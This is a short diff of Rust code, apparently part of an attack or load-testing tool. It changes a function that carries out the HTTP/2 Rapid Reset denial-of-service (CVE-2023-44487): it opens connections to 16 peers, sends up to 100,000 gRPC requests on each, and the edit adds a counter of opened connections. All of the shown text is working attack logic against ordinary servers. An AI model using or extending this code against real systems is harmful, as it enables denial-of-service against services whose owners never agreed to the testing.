@@ -114,10 +114,12 @@ async fn read_status(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> Outcom
 /// Opens streams and resets each at once (CVE-2023-44487).
 pub fn rapid_resets(attacker: &mut Attacker) -> anyhow::Result<()> {
     for peer in attacker.peers(16)? {
+        let tally = attacker.tally.clone();
         attacker.repeat(move || {
-            let peer = peer.clone();
+            let (peer, tally) = (peer.clone(), tally.clone());
             async move {
                 let mut sender = peer.http2().await.map_err(|_| "no connection")?;
+                tally.count("opened");
                 for _ in 0..100_000 {
                     let request = grpc_request(&peer, METHODS[0])?;
                     sender = sender.ready().await.map_err(|_| "connection closed")?;
